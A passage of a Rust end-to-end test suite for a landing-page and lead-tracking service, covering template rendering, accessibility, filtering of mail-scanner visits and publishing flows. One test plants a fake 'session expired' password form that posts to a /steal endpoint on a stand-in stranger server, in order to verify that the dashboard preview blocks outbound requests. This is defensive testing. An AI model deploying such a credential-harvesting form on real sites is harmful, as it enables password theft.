            browser.goto(&page).await.unwrap();
            let html = browser.source().await.unwrap();
            assert!(html.contains(colour), "{name} shows {colour}: {html}");
            assert!(
                !html.contains("<title>Colours"),
                "never the campaign's name: {html}"
            );
            let elsewhere = browser
                .execute(
                    "return performance.getEntriesByType('resource').map(e => e.name)
                       .filter(n => !n.startsWith(location.origin));",
                    vec![],
                )
                .await
                .unwrap();
            assert_eq!(elsewhere, json!([]), "{name}: nothing from a third party");
            for violation in axe_violations(&browser, &Some(axe.clone().unwrap())).await {
                failures.push(format!("{name} with {colour}: {violation}"));
            }
            // With LPS_SCREENSHOTS=DIR: each design at desktop and phone size, in one colour.
            if let (Ok(dir), "#0f766e") = (std::env::var("LPS_SCREENSHOTS"), colour) {
                let file = name.to_lowercase().replace(' ', "-");
                for (size, width, height) in [("desktop", 1280, 900), ("phone", 390, 844)] {
                    browser.set_window_size(width, height).await.unwrap();
                    browser.goto(&page).await.unwrap();
                    let png = browser.screenshot().await.unwrap();
                    std::fs::write(format!("{dir}/premade-{file}-{size}.png"), png).unwrap();
                }
            }
        }
    }
    assert!(failures.is_empty(), "{failures:#?}");
    browser.close().await.unwrap();
}

/// Makes the template the campaign's draft and publishes it.
async fn publish_template(server: &Server, key: &str, ws: i64, campaign: i64, template: i64) {
    server
        .post(
            key,
            "/templates/apply",
            json!({"workspace_id": ws, "campaign_id": campaign, "template_id": template}),
        )
        .await
        .expect(200);
    server
        .post(
            key,
            "/pages/publish",
            json!({"workspace_id": ws, "campaign_id": campaign}),
        )
        .await
        .expect(200);
}

/// The lead's activity entries (`/leads/activity`).
async fn activity_of(server: &Server, key: &str, lead: i64) -> Vec<Value> {
    server
        .get(key, &format!("/leads/activity?lead_id={lead}"))
        .await
        .expect(200)
        .json()["entries"]
        .as_array()
        .unwrap()
        .clone()
}

/// Polls `/leads/activity` until the lead's page views are `count` (10 s at most).
async fn views_listed(server: &Server, key: &str, lead: i64, count: usize) -> Vec<Value> {
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        let views: Vec<Value> = activity_of(server, key, lead)
            .await
            .into_iter()
            .filter(|e| e["event"] == "page_viewed")
            .collect();
        if views.len() >= count || Instant::now() > deadline {
            return views;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

#[tokio::test]
async fn a_browser_that_leaves_at_once_without_a_sign_of_a_person_is_not_counted() {
    let Some(driver) = driver("quick leave").await else {
        return;
    };
    let db = TestDb::new();
    let account = bootstrap(&db, &[]);
    let server = Server::serve(&db, &[]);
    let (key, ws) = (&account.api_key, account.workspace_id);
    let (campaign, pages) = live_campaign(&server, key, ws, "Scanned", 2).await;
    let browser = browser(&driver, true).await;

    // What a mail scanner's real browser does: opens the link, runs the script, leaves.
    browser.goto(&pages[0].1).await.unwrap();
    tokio::time::sleep(Duration::from_millis(300)).await;
    browser.goto("about:blank").await.unwrap();
    let views = views_listed(&server, key, pages[0].0, 1).await;
    assert_eq!(views.len(), 1, "the view is kept: {views:?}");
    assert_eq!(views[0]["class"], "unconfirmed", "{views:?}");
    assert_eq!(
        views[0]["reason"],
        "shown; no interaction or 3 s visible yet"
    );
    let entry = analytics_until(&server, key, ws, campaign, |e| {
        e["filtered_visits"]["unconfirmed"] == 1
    })
    .await;
    assert_eq!(entry["pages_visited"], 0, "{entry}");
    assert_eq!(entry["unique_visitors"], 0, "{entry}");

    // A person who stays a few seconds without touching anything counts, once.
    browser.goto(&pages[1].1).await.unwrap();
    tokio::time::sleep(Duration::from_millis(3500)).await;
    let entry = analytics_until(&server, key, ws, campaign, |e| e["pages_visited"] == 1).await;
    assert_eq!(entry["pages_visited"], 1, "{entry}");
    assert_eq!(entry["unique_visitors"], 1, "{entry}");
    let views_after = views_listed(&server, key, pages[1].0, 1).await;
    assert_eq!(views_after.len(), 1, "one view: {views_after:?}");
    assert_eq!(views_after[0]["class"], "person", "{views_after:?}");
    assert!(
        views_after[0]["reason"]
            .as_str()
            .unwrap()
            .starts_with("confirmed by visible for"),
        "{views_after:?}"
    );
    browser.close().await.unwrap();
}

#[tokio::test]
async fn a_scanners_signature_or_network_counts_nothing_even_in_a_real_browser() {
    let Some(driver) = driver("scanner").await else {
        return;
    };
    // A browser presenting a mail scanner's user agent, and an ordinary one from a listed
    // network (loopback, in the test's network file).
    let db = TestDb::new();
    let account = bootstrap(&db, &[]);
    let file = std::env::temp_dir().join(format!("lps-networks-{}.txt", std::process::id()));
    std::fs::write(&file, "127.0.0.0/8\n::1/128\n").unwrap();
    let server = Server::serve(&db, &["--scanner-networks", file.to_str().unwrap()]);
    let (key, ws) = (&account.api_key, account.workspace_id);
    let (campaign, pages) = live_campaign(&server, key, ws, "Scanners", 2).await;
    let scanner = browser_as(
        &driver,
        Some("Mozilla/5.0 (Windows NT 10.0; Win64; x64) Mimecast-LinkScanner/2.0"),
    )
    .await;
    scanner.goto(&pages[0].1).await.unwrap();
    scanner
        .execute(
            "window.scrollTo(0, document.documentElement.scrollHeight)",
            vec![],
        )
        .await
        .unwrap();
    tokio::time::sleep(Duration::from_millis(500)).await;
    scanner.goto("about:blank").await.unwrap();
    scanner.close().await.unwrap();
    let person = browser(&driver, true).await;
    person.goto(&pages[1].1).await.unwrap();
    person
        .execute(
            "window.scrollTo(0, document.documentElement.scrollHeight)",
            vec![],
        )
        .await
        .unwrap();
    tokio::time::sleep(Duration::from_millis(500)).await;
    person.goto("about:blank").await.unwrap();
    person.close().await.unwrap();

    let signature = views_listed(&server, key, pages[0].0, 1).await;
    assert_eq!(signature[0]["class"], "automated", "{signature:?}");
    assert_eq!(
        signature[0]["reason"],
        "mail scanner's user agent (Mimecast)"
    );
    let network = views_listed(&server, key, pages[1].0, 1).await;
    assert_eq!(network[0]["class"], "scanner_network", "{network:?}");
    let entry = analytics_until(&server, key, ws, campaign, |e| {
        e["filtered_visits"]["scanner_network"] == 1 && e["filtered_visits"]["automated"] == 1
    })
    .await;
    assert_eq!(entry["pages_visited"], 0, "{entry}");
    assert_eq!(entry["total_button_clicks"], 0, "{entry}");
    std::fs::remove_file(&file).unwrap();
}

/// A Chrome DevTools Protocol command, through ChromeDriver.
#[derive(Debug)]
struct DevTools {
    command: &'static str,
    params: Value,
}

impl fantoccini::wd::WebDriverCompatibleCommand for DevTools {
    fn endpoint(
        &self,
        base_url: &url::Url,
        session_id: Option<&str>,
    ) -> Result<url::Url, url::ParseError> {
        base_url.join(&format!(
            "session/{}/goog/cdp/execute",
            session_id.unwrap_or_default()
        ))
    }

    fn method_and_body(&self, _: &url::Url) -> (http::Method, Option<String>) {
        let body = json!({"cmd": self.command, "params": self.params});
        (http::Method::POST, Some(body.to_string()))
    }
}

#[tokio::test]
async fn a_tab_opened_in_the_background_sends_no_view_until_it_is_shown() {
    let Some(driver) = driver("background tab").await else {
        return;
    };
    let db = TestDb::new();
    let account = bootstrap(&db, &[]);
    let server = Server::serve(&db, &[]);
    let (key, ws) = (&account.api_key, account.workspace_id);
    let (campaign, pages) = live_campaign(&server, key, ws, "Background", 1).await;
    let (lead, page) = &pages[0];
    let browser = browser(&driver, true).await;
    browser.goto("about:blank").await.unwrap();
    // Opened in a background tab (as a middle click does): loaded, its script run, not shown.
    let created = browser
        .issue_cmd(DevTools {
            command: "Target.createTarget",
            params: json!({"url": page, "background": true}),
        })
        .await
        .expect("a background tab");
    let target = created["targetId"].as_str().unwrap().to_owned();
    tokio::time::sleep(Duration::from_millis(2500)).await;
    assert!(
        activity_of(&server, key, *lead).await.is_empty(),
        "a tab never shown sends no view"
    );
    // Shown: now it is viewed.
    browser
        .issue_cmd(DevTools {
            command: "Target.activateTarget",
            params: json!({"targetId": target}),
        })
        .await
        .unwrap();
    let views = views_listed(&server, key, *lead, 1).await;
    assert_eq!(views.len(), 1, "shown, so viewed: {views:?}");
    let entry = analytics_until(&server, key, ws, campaign, |e| e["pages_visited"] == 1).await;
    assert_eq!(entry["pages_visited"], 1, "visible for 3 s counts: {entry}");
    browser.close().await.unwrap();
}

/// A stranger's server on loopback that counts whatever reaches it (connections), answering
/// each with an empty 200.
fn listening_stranger() -> (u16, std::sync::Arc<std::sync::atomic::AtomicUsize>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let reached = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let counted = reached.clone();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { continue };
            counted.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
            use std::io::{Read, Write};
            let mut buffer = [0u8; 4096];
            let _ = stream.set_read_timeout(Some(Duration::from_millis(200)));
            let _ = stream.read(&mut buffer);
            let _ = stream
                .write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 0\r\nconnection: close\r\n\r\n");
        }
    });
    (port, reached)
}

#[tokio::test]
async fn a_draft_that_asks_the_owner_to_sign_in_again_can_send_nothing_anywhere() {
    let Some(driver) = driver("phishing preview").await else {
        return;
    };
    let (port, reached) = listening_stranger();
    let s = crate::oauth::setup().await;
    let (server, key, ws) = (&s.server, &s.account.api_key, s.account.workspace_id);
    let (campaign, _) = create_campaign(server, key, ws, "Phish").await;
    let draft = format!(
        r#"<h1>Your session expired</h1>
<img src="http://127.0.0.1:{port}/seen.png" alt="">
<form action="http://127.0.0.1:{port}/steal" method="post">
<label for="pw">Password</label><input id="pw" type="password" name="password">
<button id="go">Sign in</button></form>"#
    );
    server
        .post(
            key,
            "/pages/update-design",
            json!({"workspace_id": ws, "campaign_id": campaign, "html": draft}),
        )
        .await
        .expect(200);
    let browser = browser(&driver, true).await;
    browser
        .goto(&server.url_of("/dashboard/login"))
        .await
        .unwrap();
    fill(&browser, "#email", "owner@example.com").await;
    fill(&browser, "#password", crate::oauth::PASSWORD).await;
    click(&browser, "//button[.='Sign in']").await;
    browser
        .goto(&server.url_of(&format!("/dashboard/campaigns/{campaign}/preview")))
        .await
        .unwrap();
    let shown = browser
        .find(Locator::Css("body"))
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(shown.contains("Your session expired"), "{shown}");
    fill(&browser, "#pw", "the owner's password").await;
    let _ = browser
        .find(Locator::Css("#go"))
        .await
        .unwrap()
        .click()
        .await;
    tokio::time::sleep(Duration::from_millis(1_500)).await;
    assert_eq!(
        reached.load(std::sync::atomic::Ordering::SeqCst),
        0,
        "the preview reached a stranger's server (an image loaded or the form posted)"
    );
    let _ = browser.close().await;
}

#[tokio::test]
async fn a_live_campaigns_changes_are_published_unpublishing_asks_and_phones_and_404s_read_well() {
    let Some(driver) = driver("publish changes").await else {
        return;
    };
    let axe = axe_source();
    let s = crate::oauth::setup().await;
    let (server, key, ws) = (&s.server, &s.account.api_key, s.account.workspace_id);
    let (campaign, pages) = live_campaign(server, key, ws, "Changing", 1).await;
    let public = pages[0].1.clone();
    let edit = json!({"workspace_id": ws, "campaign_id": campaign,
                      "html": "<h1>A brand new headline</h1>", "css": ""});
    server
        .post(key, "/pages/update-design", edit)
        .await
        .expect(200);
    let browser = browser(&driver, true).await;
    browser.set_window_size(1280, 900).await.unwrap();
    visit(&browser, server, &axe, "/dashboard/login", "login").await;
    fill(&browser, "#email", "owner@example.com").await;
    fill(&browser, "#password", crate::oauth::PASSWORD).await;
    click(&browser, "//button[.='Sign in']").await;

    // Publish changes, after comparing: the live page changes.
    visit(
        &browser,
        server,
        &axe,
        &format!("/dashboard/campaigns/{campaign}"),
        "campaign-changed",
    )
    .await;
    click(&browser, "//a[.='Compare the draft with the live page']").await;
    look(&browser, &axe, "changes").await;
    click(&browser, "//button[.='Publish changes']").await;
    browser.goto(&public).await.unwrap();
    let live = look(&browser, &axe, "live-changed").await;
    assert!(live.contains("A brand new headline"), "{live}");

    // Unpublishing asks first, saying what prospects will see.
    visit(
        &browser,
        server,
        &axe,
        &format!("/dashboard/campaigns/{campaign}"),
        "campaign-live",
    )
    .await;
    click(&browser, "//a[.='Unpublish']").await;
    let asked = look(&browser, &axe, "unpublish-confirm").await;
    assert!(asked.contains("not live yet"), "{asked}");
    click(&browser, "//button[.='Unpublish']").await;
    browser.goto(&public).await.unwrap();
    let gone = look(&browser, &axe, "not-live").await;
    assert!(gone.to_lowercase().contains("not live"), "{gone}");

    // The visitor 404 page passes axe (contrast included).
    visit(&browser, server, &axe, "/p/no-such/page", "visitor-404").await;

    // On a phone, no table header breaks a word.
    browser.set_window_size(360, 740).await.unwrap();
    visit(
        &browser,
        server,
        &axe,
        &format!("/dashboard/leads?workspace_id={ws}"),
        "leads-phone",
    )
    .await;
    let broken = browser
        .execute(
            "const broken = [];
             for (const th of document.querySelectorAll('th')) {
               const walker = document.createTreeWalker(th, NodeFilter.SHOW_TEXT);
               for (let node = walker.nextNode(); node; node = walker.nextNode()) {
                 const re = /\\S+/g; let m;
                 while ((m = re.exec(node.data))) {
                   const range = document.createRange();
                   range.setStart(node, m.index); range.setEnd(node, m.index + m[0].length);
                   const tops = new Set([...range.getClientRects()].map(r => Math.round(r.top)));
                   if (tops.size > 1) broken.push(m[0]);
                 }
               }
             }
             return broken;",
            vec![],
        )
        .await
        .unwrap();
    assert_eq!(broken, json!([]), "words broken in table headers");
}
